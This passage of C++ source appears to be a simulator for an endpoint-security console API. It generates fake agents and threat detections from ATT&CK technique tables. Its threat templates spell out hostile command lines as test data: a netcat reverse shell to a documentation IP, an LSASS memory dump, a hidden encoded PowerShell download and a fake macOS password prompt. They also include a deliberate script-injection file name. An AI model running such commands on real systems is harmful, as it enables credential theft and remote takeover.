// SPDX-License-Identifier: GPL-3.0-or-later
#include "SimTenant.h"

#include <QHash>
#include <QHostAddress>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QList>
#include <QRandomGenerator>
#include <QSet>
#include <QStringList>
#include <QUrl>
#include <QUrlQuery>

#include <algorithm>
#include <array>
#include <cstdio>
#include <cstring>
#include <limits>
#include <list>
#include <string_view>
#include <vector>

using namespace Qt::StringLiterals;

namespace s1sim {

namespace {

// ------------------------------------------------------------------------------------------------
// Constants

constexpr qint64 UsPerMs = 1000;
constexpr qint64 UsPerSec = 1000 * UsPerMs;
constexpr qint64 UsPerMin = 60 * UsPerSec;
constexpr qint64 UsPerHour = 60 * UsPerMin;
constexpr qint64 UsPerDay = 24 * UsPerHour;
constexpr qint64 TimeMin = std::numeric_limits<qint64>::min();
constexpr qint64 TimeMax = std::numeric_limits<qint64>::max();

constexpr int DefaultLimit = 10;
constexpr int MaxLimit = 1000;
constexpr int MaxSkip = 1000;
constexpr std::size_t CacheCapacity = 16;
constexpr int MaxAgents = 5000;

constexpr int CodeValidation = 4000010;
constexpr int CodeAlreadyExists = 4000030;
constexpr int CodeForbidden = 4030010;
constexpr int CodeNotFound = 4040010;

// ------------------------------------------------------------------------------------------------
// Small helpers

SimReply validationError(const QString &detail)
{
    return SimTenant::errorReply(400, CodeValidation, u"Validation Error"_s, detail);
}

SimReply forbidden(const QString &detail)
{
    return SimTenant::errorReply(403, CodeForbidden, u"Insufficient permissions"_s, detail);
}

SimReply notFound(const QString &detail)
{
    return SimTenant::errorReply(404, CodeNotFound, u"Not Found"_s, detail);
}

SimReply alreadyExists(const QString &detail)
{
    return SimTenant::errorReply(400, CodeAlreadyExists, u"Already Exists Error"_s, detail);
}

SimReply jsonReply(const QJsonObject &object, int status = 200)
{
    return SimReply {status, QJsonDocument(object).toJson(QJsonDocument::Compact)};
}

SimReply dataReply(const QJsonValue &data)
{
    return jsonReply(QJsonObject {{u"data"_s, data}});
}

QString idString(quint64 id)
{
    return QString::number(id);
}

// Query parameters by name; a repeated parameter is joined with commas.
using Params = QHash<QString, QString>;

Params paramsOf(const QUrlQuery &query)
{
    Params params;
    const auto items = query.queryItems(QUrl::FullyDecoded);
    for (const auto &item : items) {
        const auto it = params.find(item.first);
        if (it == params.end()) {
            params.insert(item.first, item.second);
        } else {
            it->append(u',');
            it->append(item.second);
        }
    }
    return params;
}

QStringList splitList(QStringView value)
{
    QStringList out;
    const auto parts = value.split(u',');
    for (QStringView part : parts) {
        const QStringView t = part.trimmed();
        if (!t.isEmpty())
            out << t.toString();
    }
    return out;
}

template<std::size_t N> QString joinNames(const char *const (&names)[N])
{
    QStringList list;
    for (const char *name : names)
        list << QLatin1String(name);
    return list.join(u", "_s);
}

template<std::size_t N>
int indexOfName(const char *const (&names)[N], QStringView value, Qt::CaseSensitivity cs = Qt::CaseSensitive)
{
    for (std::size_t i = 0; i < N; ++i) {
        if (value.compare(QLatin1String(names[i]), cs) == 0)
            return int(i);
    }
    return -1;
}

std::optional<quint64> parseId(QStringView text)
{
    const QStringView t = text.trimmed();
    if (t.isEmpty() || t.size() > 20)
        return std::nullopt;
    for (QChar c : t) {
        if (c < u'0' || c > u'9')
            return std::nullopt;
    }
    bool ok = false;
    const quint64 v = t.toULongLong(&ok);
    if (!ok)
        return std::nullopt;
    return v;
}

std::optional<quint64> idFromJson(const QJsonValue &value)
{
    if (value.isString())
        return parseId(value.toString());
    if (value.isDouble()) {
        const double d = value.toDouble();
        if (d >= 0 && d < 1.8e19 && d == double(quint64(d)))
            return quint64(d);
    }
    return std::nullopt;
}

std::optional<SimReply> parseJsonBody(const QByteArray &body, QJsonObject *out)
{
    if (body.trimmed().isEmpty())
        return validationError(u"The request body is empty; a JSON object is expected"_s);
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(body, &error);
    if (error.error != QJsonParseError::NoError)
        return validationError(u"The request body is not valid JSON: %1 (at offset %2)"_s.arg(
            error.errorString(), QString::number(error.offset)));
    if (!doc.isObject())
        return validationError(u"The request body must be a JSON object"_s);
    *out = doc.object();
    return std::nullopt;
}

std::optional<SimReply> parseIntParam(
    const Params &params, const QString &name, int min, int max, int defaultValue, int *out)
{
    const auto it = params.constFind(name);
    if (it == params.constEnd()) {
        *out = defaultValue;
        return std::nullopt;
    }
    bool ok = false;
    const int v = it->trimmed().toInt(&ok);
    if (!ok || v < min || v > max)
        return validationError(u"%1: must be an integer between %2 and %3, got \"%4\""_s.arg(
            name, QString::number(min), QString::number(max), *it));
    *out = v;
    return std::nullopt;
}

std::optional<SimReply> parseBoolParam(const Params &params, const QString &name, int *out)
{
    const auto it = params.constFind(name);
    if (it == params.constEnd())
        return std::nullopt;
    const QString v = it->trimmed();
    if (v.compare(u"true"_s, Qt::CaseInsensitive) == 0)
        *out = 1;
    else if (v.compare(u"false"_s, Qt::CaseInsensitive) == 0)
        *out = 0;
    else
        return validationError(u"%1: must be true or false, got \"%2\""_s.arg(name, v));
    return std::nullopt;
}

// Opaque cursors: base64url (no padding) of a small JSON object with "v":1.
QString encodeCursor(const QJsonObject &object)
{
    QJsonObject o = object;
    o.insert(u"v"_s, 1);
    return QString::fromLatin1(QJsonDocument(o)
                                   .toJson(QJsonDocument::Compact)
                                   .toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals));
}

std::optional<QJsonObject> decodeCursor(const QString &text, const QString &kind)
{
    QByteArray b = text.trimmed().toLatin1();
    b.replace('+', '-');
    b.replace('/', '_');
    b.replace(' ', '-');
    while (b.endsWith('='))
        b.chop(1);
    if (b.isEmpty())
        return std::nullopt;
    const auto decoded = QByteArray::fromBase64Encoding(
        b, QByteArray::Base64UrlEncoding | QByteArray::AbortOnBase64DecodingErrors);
    if (!decoded)
        return std::nullopt;
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(decoded.decoded, &error);
    if (error.error != QJsonParseError::NoError || !doc.isObject())
        return std::nullopt;
    const QJsonObject o = doc.object();
    if (o.value(u"v"_s).toInt() != 1 || o.value(u"kind"_s).toString() != kind)
        return std::nullopt;
    return o;
}

SimReply badCursor(const QString &text)
{
    return validationError(u"cursor: \"%1\" is not a valid cursor for this request"_s.arg(text.left(200)));
}

// Offset cursors for the small lists (sites, accounts, notes).
std::optional<SimReply> parseOffsetCursor(const Params &params, const QString &kind, int *offset)
{
    *offset = 0;
    const auto it = params.constFind(u"cursor"_s);
    if (it == params.constEnd() || it->isEmpty())
        return std::nullopt;
    const auto o = decodeCursor(*it, kind);
    if (!o)
        return badCursor(*it);
    const int v = o->value(u"offset"_s).toInt(-1);
    if (v < 0)
        return badCursor(*it);
    *offset = v;
    return std::nullopt;
}

QString offsetCursor(const QString &kind, qsizetype offset)
{
    return encodeCursor(QJsonObject {{u"kind"_s, kind}, {u"offset"_s, qint64(offset)}});
}

// ------------------------------------------------------------------------------------------------
// Time: microseconds since the epoch, UTC

qint64 floorDiv(qint64 a, qint64 b)
{
    qint64 q = a / b;
    if ((a % b != 0) && ((a < 0) != (b < 0)))
        --q;
    return q;
}

// Howard Hinnant's civil calendar algorithms.
qint64 daysFromCivil(int y, int m, int d)
{
    y -= m <= 2 ? 1 : 0;
    const int era = (y >= 0 ? y : y - 399) / 400;
    const int yoe = y - era * 400;
    const int mp = (m + 9) % 12;
    const int doy = (153 * mp + 2) / 5 + d - 1;
    const int doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return qint64(era) * 146097 + doe - 719468;
}

void civilFromDays(qint64 z, int *y, int *m, int *d)
{
    z += 719468;
    const qint64 era = (z >= 0 ? z : z - 146096) / 146097;
    const int doe = int(z - era * 146097);
    const int yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    const int doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const int mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = int(yoe + era * 400) + (*m <= 2 ? 1 : 0);
}

bool isLeap(int y)
{
    return (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
}

int daysInMonth(int y, int m)
{
    static constexpr int days[] = {31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
    return (m == 2 && isLeap(y)) ? 29 : days[m - 1];
}

int formatTimestampTo(char *buf, std::size_t size, qint64 us)
{
    const qint64 secs = floorDiv(us, UsPerSec);
    const int micros = int(us - secs * UsPerSec);
    const qint64 days = floorDiv(secs, 86400);
    const int sod = int(secs - days * 86400);
    int y = 0, m = 0, d = 0;
    civilFromDays(days, &y, &m, &d);
    return std::snprintf(buf, size, "%04d-%02d-%02dT%02d:%02d:%02d.%06dZ", y, m, d, sod / 3600,
        (sod / 60) % 60, sod % 60, micros);
}

qint64 nowUsecs()
{
    return QDateTime::currentMSecsSinceEpoch() * UsPerMs;
}

// ------------------------------------------------------------------------------------------------
// A minimal JSON writer for the hot path (threat pages): no intermediate QJsonObject.

void appendAsciiEscaped(QByteArray &out, char c)
{
    switch (c) {
    case '"':
        out += "\\\"";
        break;
    case '\\':
        out += "\\\\";
        break;
    case '\n':
        out += "\\n";
        break;
    case '\r':
        out += "\\r";
        break;
    case '\t':
        out += "\\t";
        break;
    case '\b':
        out += "\\b";
        break;
    case '\f':
        out += "\\f";
        break;
    default:
        if (uchar(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof buf, "\\u%04x", unsigned(uchar(c)));
            out += buf;
        } else {
            out += c;
        }
    }
}

void appendJsonString(QByteArray &out, QStringView s)
{
    out += '"';
    const qsizetype n = s.size();
    qsizetype i = 0;
    while (i < n) {
        const char16_t c = s[i].unicode();
        if (c < 0x80) {
            appendAsciiEscaped(out, char(c));
            ++i;
        } else {
            qsizetype j = i + 1;
            while (j < n && s[j].unicode() >= 0x80)
                ++j;
            out += s.sliced(i, j - i).toUtf8();
            i = j;
        }
    }
    out += '"';
}

void appendJsonLatin1(QByteArray &out, const char *s)
{
    out += '"';
    for (; *s; ++s)
        appendAsciiEscaped(out, *s);
    out += '"';
}

void appendHex(QByteArray &out, const quint8 *data, int len)
{
    static constexpr char digits[] = "0123456789abcdef";
    for (int i = 0; i < len; ++i) {
        out += digits[data[i] >> 4];
        out += digits[data[i] & 0xf];
    }
}

class JsonWriter
{
public:
    explicit JsonWriter(QByteArray &out)
        : m_out(out)
    {
        m_first.fill(true);
    }
    void beginObject(const char *key = nullptr)
    {
        prefix(key);
        m_out += '{';
        push();
    }
    void endObject()
    {
        pop();
        m_out += '}';
    }
    void beginArray(const char *key = nullptr)
    {
        prefix(key);
        m_out += '[';
        push();
    }
    void endArray()
    {
        pop();
        m_out += ']';
    }
    void str(const char *key, QStringView v)
    {
        prefix(key);
        appendJsonString(m_out, v);
    }
    void latin(const char *key, const char *v)
    {
        prefix(key);
        appendJsonLatin1(m_out, v);
    }
    void null(const char *key)
    {
        prefix(key);
        m_out += "null";
    }
    void boolean(const char *key, bool v)
    {
        prefix(key);
        m_out += v ? "true" : "false";
    }
    void integer(const char *key, qint64 v)
    {
        prefix(key);
        m_out += QByteArray::number(v);
    }
    void id(const char *key, quint64 v)
    {
        prefix(key);
        m_out += '"';
        m_out += QByteArray::number(v);
        m_out += '"';
    }
    void time(const char *key, qint64 us)
    {
        prefix(key);
        char buf[64];
        const int n = formatTimestampTo(buf, sizeof buf, us);
        m_out += '"';
        m_out.append(buf, n);
        m_out += '"';
    }
    void hex(const char *key, const quint8 *data, int len)
    {
        prefix(key);
        m_out += '"';
        appendHex(m_out, data, len);
        m_out += '"';
    }
    void raw(const char *key, const char *json)
    {
        prefix(key);
        m_out += json;
    }

private:
    void prefix(const char *key)
    {
        if (!m_first[m_depth])
            m_out += ',';
        m_first[m_depth] = false;
        if (key) {
            m_out += '"';
            m_out += key;
            m_out += "\":";
        }
    }
    void push()
    {
        ++m_depth;
        Q_ASSERT(m_depth < MaxDepth);
        m_first[m_depth] = true;
    }
    void pop() { --m_depth; }

    static constexpr int MaxDepth = 16;
    QByteArray &m_out;
    std::array<bool, MaxDepth> m_first;
    int m_depth = 0;
};

// ------------------------------------------------------------------------------------------------
// Seeded random numbers

class Rng
{
public:
    Rng(quint64 seed, quint32 stream)
        : m_gen(seedWords(seed, stream).data(), 3)
    { }
    quint32 below(quint32 n) { return n ? m_gen.bounded(n) : 0; }
    int between(int lo, int hi) { return m_gen.bounded(lo, hi + 1); } // inclusive
    qint64 between64(qint64 lo, qint64 hi) { return m_gen.bounded(lo, hi + 1); } // inclusive
    double unit() { return m_gen.generateDouble(); }
    bool chance(double p) { return m_gen.generateDouble() < p; }
    quint32 next() { return m_gen.generate(); }
    template<typename T, std::size_t N> const T &pick(const T (&array)[N])
    {
        return array[below(quint32(N))];
    }
    int weighted(const int *weights, int count)
    {
        int total = 0;
        for (int i = 0; i < count; ++i)
            total += weights[i];
        int r = int(below(quint32(total)));
        for (int i = 0; i < count; ++i) {
            if (r < weights[i])
                return i;
            r -= weights[i];
        }
        return count - 1;
    }
    QString hexString(int bytes)
    {
        QByteArray raw(bytes, Qt::Uninitialized);
        for (int i = 0; i < bytes; ++i)
            raw[i] = char(below(256));
        return QString::fromLatin1(raw.toHex());
    }

private:
    static std::array<quint32, 3> seedWords(quint64 seed, quint32 stream)
    {
        return {quint32(seed), quint32(seed >> 32), stream};
    }
    QRandomGenerator m_gen;
};

// ------------------------------------------------------------------------------------------------
// Tables

enum OsType : quint8 { OsWindows, OsMac, OsLinux };
constexpr const char *OsTypeNames[] = {"windows", "macos", "linux"};

enum AgentKind : quint8 { KindWinDesktop, KindWinLaptop, KindWinServer, KindMac, KindLinux, KindCount };
constexpr OsType KindOs[] = {OsWindows, OsWindows, OsWindows, OsMac, OsLinux};
constexpr const char *MachineTypeNames[] = {"desktop", "laptop", "server"}; // sorted: rank = index
constexpr int KindMachine[] = {0, 1, 2, 1, 2};
constexpr const char *InterfaceNames[] = {"Ethernet0", "Wi-Fi", "Ethernet0", "en0", "ens160"};

struct OsVariant
{
    AgentKind kind;
    const char *name;
    const char *revision;
};
constexpr OsVariant OsVariants[] = {
    {KindWinDesktop, "Windows 10 Pro", "19045"},
    {KindWinDesktop, "Windows 11 Pro", "22631"},
    {KindWinDesktop, "Windows 11 Enterprise", "22631"},
    {KindWinDesktop, "Windows 10 Enterprise", "19045"},
    {KindWinLaptop, "Windows 11 Pro", "22631"},
    {KindWinLaptop, "Windows 10 Pro", "19045"},
    {KindWinServer, "Windows Server 2019 Standard", "17763"},
    {KindWinServer, "Windows Server 2022 Datacenter", "20348"},
    {KindWinServer, "Windows Server 2016 Standard", "14393"},
    {KindMac, "macOS 14.5", "23F79"},
    {KindMac, "macOS 13.6.7", "22G720"},
    {KindMac, "macOS 15.1", "24B83"},
    {KindLinux, "Ubuntu 22.04.4 LTS", "5.15.0-105-generic"},
    {KindLinux, "Red Hat Enterprise Linux 9.3", "5.14.0-362.8.1.el9_3.x86_64"},
    {KindLinux, "Debian GNU/Linux 12 (bookworm)", "6.1.0-21-amd64"},
    {KindLinux, "Amazon Linux 2023", "6.1.90-99.173.amzn2023.x86_64"},
};

struct AgentVersion
{
    OsType os;
    const char *version;
};
constexpr AgentVersion AgentVersions[] = {
    {OsWindows, "23.3.3.264"},
    {OsWindows, "23.4.4.223"},
    {OsWindows, "24.1.5.277"},
    {OsWindows, "24.2.2.20"},
    {OsMac, "23.4.2.7278"},
    {OsMac, "24.1.2.7444"},
    {OsMac, "24.2.1.7527"},
    {OsLinux, "23.4.2.14"},
    {OsLinux, "24.1.2.6"},
    {OsLinux, "24.2.1.8"},
};
constexpr int AgentVersionCount = int(std::size(AgentVersions));

enum Classification : quint8 {
    ClMalware,
    ClRansomware,
    ClTrojan,
    ClInfostealer,
    ClPua,
    ClExploit,
    ClHacktool,
    ClBackdoor,
    ClMiner,
    ClDownloader
};
constexpr const char *ClassificationNames[] = {"Malware", "Ransomware", "Trojan", "Infostealer", "PUA",
    "Exploit", "Hacktool", "Backdoor", "Miner", "Downloader"};

constexpr const char *ConfidenceNames[] = {"malicious", "suspicious", "n/a"};
enum Verdict : quint8 { VerdictUndefined, VerdictTruePositive, VerdictFalsePositive, VerdictSuspicious };
constexpr const char *VerdictNames[] = {"undefined", "true_positive", "false_positive", "suspicious"};
constexpr const char *VerdictDescriptions[] = {"Undefined", "True positive", "False positive", "Suspicious"};
enum Incident : quint8 { IncidentUnresolved, IncidentInProgress, IncidentResolved };
constexpr const char *IncidentNames[] = {"unresolved", "in_progress", "resolved"};
constexpr const char *IncidentDescriptions[] = {"Unresolved", "In progress", "Resolved"};
enum Mitigation : quint8 { MitigationMitigated, MitigationNotMitigated, MitigationBenign };
constexpr const char *MitigationNames[] = {"mitigated", "not_mitigated", "marked_as_benign"};
constexpr const char *MitigationDescriptions[] = {"Mitigated", "Not mitigated", "Marked as benign"};
constexpr int MitigationRank[] = {1, 2, 0}; // alphabetical order of the names

struct Engine
{
    const char *key;
    const char *title;
    bool isStatic;
    const char *source;
};
enum EngineId : quint8 {
    EngCloud,
    EngStatic,
    EngStaticSuspicious,
    EngReputation,
    EngBehavioral,
    EngDocuments,
    EngExploits,
    EngIntrusion,
    EngManual
};
constexpr Engine Engines[] = {
    {"sentinelone_cloud", "SentinelOne Cloud", true, "Cloud"},
    {"pre_execution", "On-Write Static AI", true, "Static"},
    {"pre_execution_suspicious", "On-Write Static AI - Suspicious", true, "Static"},
    {"reputation", "Reputation", true, "Cloud"},
    {"executables", "Behavioral AI", false, "Engine"},
    {"data_files", "Documents, Scripts", false, "Engine"},
    {"exploits", "Anti Exploitation / Fileless", false, "Engine"},
    {"penetration", "Intrusion Detection", false, "Engine"},
    {"manual", "Manual", false, "Static"},
};

struct InitiatedBy
{
    const char *key;
    const char *description;
};
constexpr InitiatedBy InitiatedByValues[] = {
    {"agent_policy", "Agent Policy"},
    {"star_active", "Custom Rule"},
    {"full_disk_scan", "Full Disk Scan"},
    {"console_api", "Console API"},
    {"dv_command", "Deep Visibility Command"},
};
constexpr int InitiatedByWeights[] = {82, 6, 6, 3, 3};

constexpr const char *Publishers[] = {
    "", "Microsoft Windows", "Sysinternals - www.sysinternals.com", "philandro Software GmbH", "Apple Inc."};

// Real MITRE ATT&CK techniques with their tactic; category/description as a console shows them.
struct Technique
{
    const char *id;
    const char *link;
    const char *tactic;
    const char *category;
    const char *description;
    int indicatorId;
};
enum TechniqueId : qint8 {
    TNone = -1,
    TPowerShell,
    TInjection,
    TLsass,
    TRunKeys,
    TEncrypt,
    TWebC2,
    TObfuscation,
    TPhishing,
    TIngress,
    TSysInfo,
    TModifyRegistry,
    TRundll32,
    TInhibitRecovery,
    TMasquerade,
    TMaliciousFile,
    TBrowserCreds,
    TAdminShares,
    TResourceHijack,
    TLaunchAgent,
    TUnixShell,
    TCron,
    TAppleScript,
    TClientExploit,
    TRemoteAccess,
    TechniqueCount
};
constexpr Technique Techniques[] = {
    {"T1059.001", "https://attack.mitre.org/techniques/T1059/001/", "Execution", "General",
        "Suspicious PowerShell command line was executed", 41},
    {"T1055", "https://attack.mitre.org/techniques/T1055/", "Defense Evasion", "Injection",
        "Code was injected into a trusted process", 18},
    {"T1003.001", "https://attack.mitre.org/techniques/T1003/001/", "Credential Access", "InfoStealer",
        "Process read the memory of LSASS", 73},
    {"T1547.001", "https://attack.mitre.org/techniques/T1547/001/", "Persistence", "Persistence",
        "Application registered itself to run at logon", 55},
    {"T1486", "https://attack.mitre.org/techniques/T1486/", "Impact", "Ransomware",
        "Massive file encryption was detected", 12},
    {"T1071.001", "https://attack.mitre.org/techniques/T1071/001/", "Command and Control", "Malware",
        "Periodic beaconing over HTTP(S)", 96},
    {"T1027", "https://attack.mitre.org/techniques/T1027/", "Defense Evasion", "Evasion",
        "Obfuscated script content was detected", 27},
    {"T1566.001", "https://attack.mitre.org/techniques/T1566/001/", "Initial Access", "Exploitation",
        "Office document spawned a child process", 64},
    {"T1105", "https://attack.mitre.org/techniques/T1105/", "Command and Control", "Post Exploitation",
        "Executable was downloaded from the internet", 88},
    {"T1082", "https://attack.mitre.org/techniques/T1082/", "Discovery", "Discovery",
        "System information was enumerated", 103},
    {"T1112", "https://attack.mitre.org/techniques/T1112/", "Defense Evasion", "Evasion",
        "Security-related registry settings were modified", 35},
    {"T1218.011", "https://attack.mitre.org/techniques/T1218/011/", "Defense Evasion", "Evasion",
        "Indirect command was executed via rundll32", 123},
    {"T1490", "https://attack.mitre.org/techniques/T1490/", "Impact", "Ransomware",
        "Volume shadow copies were deleted", 14},
    {"T1036.005", "https://attack.mitre.org/techniques/T1036/005/", "Defense Evasion", "Hiding/Stealthiness",
        "Binary masquerades as a system file", 47},
    {"T1204.002", "https://attack.mitre.org/techniques/T1204/002/", "Execution", "General",
        "User executed a file from the Downloads folder", 150},
    {"T1555.003", "https://attack.mitre.org/techniques/T1555/003/", "Credential Access", "InfoStealer",
        "Browser credential stores were read", 77},
    {"T1021.002", "https://attack.mitre.org/techniques/T1021/002/", "Lateral Movement", "Post Exploitation",
        "A service was created remotely over an admin share", 131},
    {"T1496", "https://attack.mitre.org/techniques/T1496/", "Impact", "Malware",
        "Sustained high CPU use by a mining process", 158},
    {"T1543.001", "https://attack.mitre.org/techniques/T1543/001/", "Persistence", "Persistence",
        "A launch agent was created", 166},
    {"T1059.004", "https://attack.mitre.org/techniques/T1059/004/", "Execution", "General",
        "Suspicious shell command line was executed", 170},
    {"T1053.003", "https://attack.mitre.org/techniques/T1053/003/", "Persistence", "Persistence",
        "A crontab entry was added", 174},
    {"T1059.002", "https://attack.mitre.org/techniques/T1059/002/", "Execution", "General",
        "AppleScript was executed from an unusual parent", 181},
    {"T1203", "https://attack.mitre.org/techniques/T1203/", "Execution", "Exploitation",
        "Office equation editor spawned a process", 67},
    {"T1219", "https://attack.mitre.org/techniques/T1219/", "Command and Control", "General",
        "A remote access tool was started", 190},
};
static_assert(std::size(Techniques) == std::size_t(TechniqueCount));

constexpr quint8 OsW = 1, OsM = 2, OsL = 4;

// Directories: {u} = user, {r} = a random token.
constexpr const char16_t *DirWinDownloads = u"\\Device\\HarddiskVolume3\\Users\\{u}\\Downloads\\";
constexpr const char16_t *DirWinOutlook
    = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
      u"Outlook\\{r}\\";
constexpr const char16_t *DirWinRoaming = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Roaming\\";
constexpr const char16_t *DirWinTemp = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Temp\\";
constexpr const char16_t *DirWinProgramData = u"\\Device\\HarddiskVolume3\\ProgramData\\{r}\\";
constexpr const char16_t *DirWinWindows = u"\\Device\\HarddiskVolume3\\Windows\\";
constexpr const char16_t *DirMacDownloads = u"/Users/{u}/Downloads/";
constexpr const char16_t *DirMacLaunchAgents = u"/Users/{u}/Library/LaunchAgents/";
constexpr const char16_t *DirMacVolume = u"/Volumes/Installer/";
constexpr const char16_t *DirLinuxHiddenTmp = u"/tmp/.x/";
constexpr const char16_t *DirLinuxVarTmp = u"/var/tmp/";
constexpr const char16_t *DirLinuxShm = u"/dev/shm/";
constexpr const char16_t *DirLinuxTmp = u"/tmp/";

struct ThreatTemplate
{
    const char16_t *name; // threatName; %1 becomes a number
    const char16_t *file; // file name (%1 as above); nullptr: fileless
    quint8 osMask;
    Classification classification;
    const char16_t *dir;
    const char *originator;
    const char *arguments;
    int publisher;
    TechniqueId techniques[3];
};

// Names include hostile text on purpose (markup, quotes, ampersands, non-ASCII): clients must show it
// as plain text.
constexpr ThreatTemplate Templates[] = {
    {u"mimikatz.exe", u"mimikatz.exe", OsW, ClHacktool, DirWinDownloads, "explorer.exe", "", 0,
        {TLsass, TInjection, TNone}},
    {u"invoice_%1.docm", u"invoice_%1.docm", OsW, ClDownloader, DirWinOutlook, "OUTLOOK.EXE", "", 0,
        {TPhishing, TPowerShell, TIngress}},
    {u"svch0st.exe", u"svch0st.exe", OsW, ClTrojan, DirWinRoaming, "explorer.exe", "", 0,
        {TMasquerade, TRunKeys, TWebC2}},
    {u"Emotet loader", u"%1.dll", OsW, ClTrojan, DirWinTemp, "rundll32.exe", "", 0,
        {TRundll32, TWebC2, TObfuscation}},
    {u"xmrig.exe", u"xmrig.exe", OsW, ClMiner, DirWinProgramData, "svchost.exe", "", 0,
        {TResourceHijack, TIngress, TNone}},
    {u"AgentTesla.exe", u"AgentTesla.exe", OsW, ClInfostealer, DirWinRoaming, "explorer.exe", "", 0,
        {TBrowserCreds, TWebC2, TSysInfo}},
    {u"Rechnung_März.pdf.exe", u"Rechnung_März.pdf.exe", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "",
        0, {TMaliciousFile, TMasquerade, TNone}},
    {u"Q3 Budget & Forecast.xlsm", u"Q3 Budget & Forecast.xlsm", OsW, ClDownloader, DirWinOutlook,
        "OUTLOOK.EXE", "", 0, {TPhishing, TPowerShell, TNone}},
    {u"O'Brien_CV.doc.exe", u"O'Brien_CV.doc.exe", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TMasquerade, TRunKeys}},
    {u"счёт_%1.scr", u"счёт_%1.scr", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TWebC2, TNone}},
    {u"报价单_%1.exe", u"报价单_%1.exe", OsW, ClBackdoor, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TWebC2, TRunKeys}},
    {u"LockBit3.exe", u"LockBit3.exe", OsW, ClRansomware, DirWinProgramData, "cmd.exe", "", 0,
        {TEncrypt, TInhibitRecovery, TModifyRegistry}},
    {u"tasksche.exe", u"tasksche.exe", OsW, ClRansomware, DirWinProgramData, "mssecsvc.exe", "", 0,
        {TEncrypt, TInhibitRecovery, TAdminShares}},
    {u"beacon_x64.dll", u"beacon_x64.dll", OsW, ClBackdoor, DirWinTemp, "rundll32.exe", "", 0,
        {TInjection, TWebC2, TRundll32}},
    {u"procdump64.exe", u"procdump64.exe", OsW, ClHacktool, DirWinTemp, "cmd.exe",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp", 2, {TLsass, TNone, TNone}},
    {u"PSEXESVC.exe", u"PSEXESVC.exe", OsW, ClHacktool, DirWinWindows, "services.exe", "", 2,
        {TAdminShares, TNone, TNone}},
    {u"nc.exe", u"nc.exe", OsW, ClHacktool, DirWinTemp, "cmd.exe", "nc.exe -e cmd.exe 198.51.100.23 4444", 0,
        {TIngress, TWebC2, TNone}},
    {u"setup_crack_v%1.exe", u"setup_crack_v%1.exe", OsW, ClPua, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TNone, TNone}},
    {u"quote_%1.rtf", u"quote_%1.rtf", OsW, ClExploit, DirWinOutlook, "EQNEDT32.EXE", "", 0,
        {TClientExploit, TPhishing, TIngress}},
    {u"AnyDesk.exe", u"AnyDesk.exe", OsW, ClPua, DirWinDownloads, "explorer.exe", "", 3,
        {TRemoteAccess, TNone, TNone}},
    {u"powershell.exe (interactive session)", nullptr, OsW, ClMalware, nullptr, "cmd.exe",
        "powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        0, {TPowerShell, TObfuscation, TIngress}},
    {u"rundll32.exe (interactive session)", nullptr, OsW, ClMalware, nullptr, "explorer.exe",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()", 0,
        {TRundll32, TInjection, TNone}},
    {u"wscript.exe (interactive session)", nullptr, OsW, ClDownloader, nullptr, "explorer.exe",
        "wscript.exe //B //E:jscript invoice.txt", 0, {TObfuscation, TIngress, TNone}},
    {u"FlashPlayer_Installer.dmg", u"FlashPlayer_Installer.dmg", OsM, ClDownloader, DirMacDownloads, "Safari",
        "", 0, {TMaliciousFile, TIngress, TNone}},
    {u"AdLoad", u"com.searchd%1.service", OsM, ClPua, DirMacLaunchAgents, "launchd", "", 0,
        {TLaunchAgent, TWebC2, TNone}},
    {u"AtomicStealer", u"Installer", OsM, ClInfostealer, DirMacVolume, "Finder", "", 0,
        {TBrowserCreds, TAppleScript, TSysInfo}},
    {u"Invoice \"urgent\" <copy>.app", u"Invoice \"urgent\" <copy>.app", OsM, ClTrojan, DirMacDownloads,
        "Finder", "", 0, {TMaliciousFile, TLaunchAgent, TNone}},
    {u"osascript (interactive session)", nullptr, OsM, ClInfostealer, nullptr, "Terminal",
        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
        0, {TAppleScript, TBrowserCreds, TNone}},
    {u"xmrig", u"xmrig", OsL, ClMiner, DirLinuxHiddenTmp, "bash", "", 0, {TResourceHijack, TIngress, TCron}},
    {u"kdevtmpfsi", u"kdevtmpfsi", OsL, ClMiner, DirLinuxTmp, "kinsing", "", 0,
        {TResourceHijack, TCron, TNone}},
    {u"tsunami", u"tsunami", OsL, ClBackdoor, DirLinuxVarTmp, "bash", "", 0, {TWebC2, TCron, TNone}},
    {u"mirai.x86", u"mirai.x86", OsL, ClMalware, DirLinuxTmp, "wget", "", 0, {TIngress, TWebC2, TNone}},
    {u"linpeas.sh", u"linpeas.sh", OsL, ClHacktool, DirLinuxShm, "bash", "", 0,
        {TSysInfo, TUnixShell, TNone}},
    {u"<script>alert('s1')</script>.sh", u"<script>alert('s1')</script>.sh", OsL, ClDownloader, DirLinuxTmp,
        "bash", "", 0, {TUnixShell, TObfuscation, TNone}},
    {u"bash (interactive session)", nullptr, OsL, ClMalware, nullptr, "sshd",
